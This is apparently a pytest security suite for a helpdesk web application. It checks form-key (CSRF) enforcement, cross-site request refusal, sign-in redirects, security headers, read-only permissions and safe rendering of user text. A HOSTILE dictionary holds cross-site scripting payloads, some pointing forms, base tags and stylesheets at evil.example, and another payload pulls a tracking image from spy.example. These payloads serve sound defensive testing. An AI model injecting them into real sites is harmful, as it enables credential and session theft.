"""The whole table of pages at once: who may come, what may be sent, and what is shown of what others write."""

import re
from collections.abc import Iterator
from contextlib import suppress
from html.parser import HTMLParser
from typing import Any

import pytest
import sqlalchemy as sa

import make
from abuse.naughty import SHORT
from conftest import Browser, Client, Databases, Stage, desk_on
from quarterdeck.desk.errors import Refusal
from quarterdeck.desk.work import Work
from quarterdeck.web import ROUTES
from quarterdeck.web.kit import Route

ACTS = [route for route in ROUTES if route.method == "POST"]
PAGES = [route for route in ROUTES if route.method == "GET" and route.path != "/live"]
STRICT = {
    "x-content-type-options": "nosniff",
    "x-frame-options": "DENY",
    "referrer-policy": "same-origin",
    "cross-origin-opener-policy": "same-origin",
    "cross-origin-resource-policy": "same-origin",
}
# Names nothing, or is no id at all.
NOTHING = (
    "0",
    "-1",
    "999999999",
    "9223372036854775808",
    "1e3",
    "none",
    "%27",
    "..%2f1",
    "%F0%9F%92%A9",
    "1;x",
    "x" * 300,
)
HOSTILE = {
    **SHORT,
    "script": '"><script>document.title="owned"</script>',
    "attribute": "x\" onmouseover=\"alert(1)\" autofocus onfocus='alert(1)'",
    "link": "[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>",
    "split link": "[a](java\tscript:alert(1)) [b](&#106;avascript:alert(1)) [c](JaVaScRiPt&colon;alert(1))",
    "image": "![x](x\"onerror=\"alert(1)) ![y](javascript:alert(1)) ![z](https://spy.example/p.gif)",
    "svg": "<svg/onload=alert(1)><math><mtext></p><style><img src onerror=alert(1)></style>",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x><embed src=x>",
    "closing": "</textarea></title></script></style></select></main><script>alert(1)</script>",
    "form": "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>",
    "base": "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example><p style=position:fixed>",
}  # fmt: skip
OURS = re.compile(r"^(mailto:|tel:|https?://|data:image/|(?![\s\w+.-]*:))", re.IGNORECASE)


def named(route: Route) -> str:
    return f"{route.method} {route.path}"


def filled(path: str, with_: str = "1") -> str:
    return re.sub(r"\{\w+\}", lambda _: with_, path)


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def client(
    request: pytest.FixtureRequest, databases: Databases, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Client]:
    with desk_on(databases, tmp_path_factory, request.param) as made:
        made.stage.do(furnish)
        yield made


@pytest.fixture(scope="module")
def stage(client: Client) -> Stage:
    return client.stage


@pytest.fixture
def vic(client: Client, stage: Stage) -> Browser:
    """Somebody who may only look."""
    return Browser(client, stage, technician_id=2)


def furnish(work: Work) -> None:
    """One of each, so that every address with a 1 in it names something."""
    customer = make.customer(work)
    contact = make.contact(work, customer_id=customer)
    make.contact(work, customer_id=customer)
    make.agent(work, customer_id=customer)
    ticket = make.ticket(work, contact_id=contact)
    make.ticket(work, contact_id=contact)
    make.comment(work, ticket)
    make.time_entry(work, ticket)
    make.reply(work)


def state(stage: Stage) -> dict[str, Any]:
    """How many rows every table has; what each keeps for themselves aside."""
    tables = sa.MetaData()

    def job(work: Work) -> dict[str, Any]:
        tables.reflect(work.db)
        passing = ("sessions", "sqlite_sequence", "failures", "follows", "presences", "tickets_seen")
        return {
            name: work.db.execute(sa.select(sa.func.count()).select_from(table)).scalar()
            for name, table in tables.tables.items()
            if name not in passing and "_search" not in name
        }

    made: dict[str, Any] = stage.do(job)
    return made


def test_no_act_is_done_without_the_key_of_a_form(browser: Browser, stage: Stage) -> None:
    before = state(stage)
    answers = {
        named(route): browser.request("POST", filled(route.path), data={"title": "x"}).status_code for route in ACTS
    }

    assert {name: code for name, code in answers.items() if code != 403} == {}
    assert state(stage) == before


@pytest.mark.parametrize(
    "headers", [{"origin": "https://evil.example"}, {"origin": "null"}, {"sec-fetch-site": "cross-site"}], ids=str
)
def test_no_act_is_done_for_another_site(headers: dict[str, str], browser: Browser, stage: Stage) -> None:
    before = state(stage)
    answers = {
        named(route): browser.send(filled(route.path), {"title": "x"}, headers=headers).status_code for route in ACTS
    }

    assert {name: code for name, code in answers.items() if code != 403} == {}
    assert state(stage) == before


def test_a_stranger_is_sent_to_the_way_in_from_everywhere(client: Client, stage: Stage) -> None:
    before = state(stage)
    stranger = Browser(client, stage, technician_id=None)
    answers = {named(route): stranger.request(route.method, filled(route.path)) for route in ROUTES if not route.open}
    let_in = {
        name: answer.status_code
        for name, answer in answers.items()
        if not (answer.status_code == 303 and answer.headers["location"].startswith("/sign-in?next="))
    }

    assert let_in == {}
    assert state(stage) == before


def test_every_answer_says_to_trust_nothing_but_its_own(browser: Browser) -> None:
    lax: list[str] = []
    for route in [*PAGES, *ACTS]:
        answer = browser.request(route.method, filled(route.path))
        policy = answer.headers.get("content-security-policy", "")
        if (
            any(answer.headers.get(name) != value for name, value in STRICT.items())
            or "default-src 'none'" not in policy
        ):
            lax.append(f"{named(route)} {answer.status_code}")
        if "unsafe" in policy or "no-store" not in answer.headers.get("cache-control", ""):
            lax.append(f"{named(route)} {answer.status_code} {policy}")

    assert lax == []


def test_somebody_who_may_only_look_changes_nothing_of_the_desk(vic: Browser, stage: Stage) -> None:
    theirs = ("/me", "/sign-out", "/sign-in", "/welcome", "/setup", "/queue/views")
    before = state(stage)
    done = {}
    for route in ACTS:
        if route.path.startswith(theirs):
            continue
        sent = {
            "title": "x",
            "name": "x",
            "body": "x",
            "first_name": "x",
            "time": "10m x",
            "status": "closed",
            "do": "change",
            "t1": "1",
            "reason": "x",
        }
        answer = vic.send(filled(route.path), sent)
        if answer.status_code in (200, 303) or answer.status_code >= 500:
            done[named(route)] = answer.status_code
    after = state(stage)

    assert {name: (before[name], after[name]) for name in after if before.get(name) != after[name]} == {}
    assert {name: code for name, code in done.items() if code >= 500} == {}


@pytest.mark.parametrize("id", NOTHING)
def test_what_names_nothing_is_not_found(id: str, browser: Browser) -> None:
    found = {}
    for route in ROUTES:
        if "{" not in route.path or route.open:
            continue
        answer = (
            browser.request("GET", filled(route.path, id))
            if route.method == "GET"
            else browser.send(filled(route.path, id))
        )
        if answer.status_code == 303 and route.path == "/customers/{id}/{tab}":
            continue
        if answer.status_code not in (404, 422, 403, 303, 409) or (
            route.method == "GET" and answer.status_code not in (404,)
        ):
            found[named(route)] = answer.status_code

    assert found == {}


@pytest.mark.parametrize(
    "query",
    [
        "after=x",
        "before=%00",
        "q=%22%27",
        "sort=nothing",
        "view=999",
        "page=-1",
        "customer=x&status=%F0%9F%92%A9",
        "from=yesterday&to=9999-99-99",
        "list=%25",
        "after=" + "9" * 400,
    ],
)
def test_no_address_however_odd_breaks_a_page(query: str, browser: Browser) -> None:
    broken = {}
    for route in PAGES:
        status = browser.get(f"{filled(route.path)}?{query}").status_code
        if status >= 500:
            broken[named(route)] = status

    assert broken == {}


class Markup(HTMLParser):
    """What a page holds that could act."""

    def __init__(self) -> None:
        super().__init__()
        self.live: list[str] = []

    def handle_starttag(self, tag: str, given: list[tuple[str, str | None]]) -> None:
        attributes = dict(given)
        if (tag == "script" and "nonce" not in attributes) or tag in (
            "iframe",
            "object",
            "embed",
            "base",
            "style",
            "math",
        ):
            self.live.append(f"<{tag}>")
        for name, value in given:
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.live.append(f"<{tag} {name}={value}>")
            if name in ("href", "src", "action", "formaction") and value and not OURS.match(value):
                self.live.append(f"<{tag} {name}={value}>")
        if tag == "img" and re.match(r"\s*(https?:|//)", attributes.get("src") or "", re.IGNORECASE):
            self.live.append(f"<img {given}>")
        if tag == "meta" and "http-equiv" in attributes:
            self.live.append(f"<meta {given}>")


def live(html: str) -> list[str]:
    parser = Markup()
    parser.feed(html)
    return parser.live


def test_what_others_write_is_shown_as_text_on_every_page(browser: Browser, stage: Stage) -> None:
    kept = {}
    shown: list[str] = []
    for name, text in HOSTILE.items():

        def write(work: Work, text: str = text) -> list[int]:
            customer = make.customer(work, name=text[:200], domain=None, notes=text)
            contact = make.contact(work, customer_id=customer, first_name=text[:60], last_name=text[:60])
            device = make.agent(work, customer_id=customer, name=text[:100])
            ticket = make.ticket(work, contact_id=contact, title=text[:200], description=text)
            make.comment(work, ticket, body=text)
            make.comment(work, ticket, body=text, internal=True)
            make.time_entry(work, ticket, notes=text)
            return [customer, contact, device, ticket]

        with suppress(Refusal):
            kept[name] = stage.do(write)
    assert len(kept) > len(HOSTILE) * 0.6
    for name, (customer, contact, device, ticket) in kept.items():
        pages = [
            f"/customers/{customer}",
            f"/contacts/{contact}",
            f"/assets/{device}",
            f"/tickets/{ticket}",
            f"/customers/{customer}/tickets",
            f"/customers/{customer}/history",
        ]
        for path in pages:
            answer = browser.get(path)
            shown += [f"{name} {path} {one}" for one in live(answer.text)]
            assert answer.status_code == 200, f"{name} {path}"
    lists = [
        "/queue?view=all",
        "/customers",
        "/contacts",
        "/assets",
        "/duplicates",
        *(filled(route.path) for route in PAGES if "{" not in route.path and not route.path.endswith(".csv")),
    ]
    for path in lists:
        shown += [f"{path} {one}" for one in live(browser.get(path).text)]

    assert shown == []


@pytest.mark.parametrize("text", list(HOSTILE.values()), ids=list(HOSTILE))
def test_what_was_sought_or_typed_comes_back_as_text(text: str, browser: Browser) -> None:
    for path in ("/queue", "/customers", "/contacts", "/assets", "/search", "/search/found"):
        try:
            answer = browser.request("GET", path, params={"q": text, "view": "all"})
        except UnicodeEncodeError:
            return
        assert answer.status_code in (200, 404, 422)
        assert live(answer.text) == [], path
    answer = browser.send("/customers", {"name": text, "domain": text, "email": text, "version": text})
    assert answer.status_code in (303, 422, 400)
    assert live(answer.text) == []
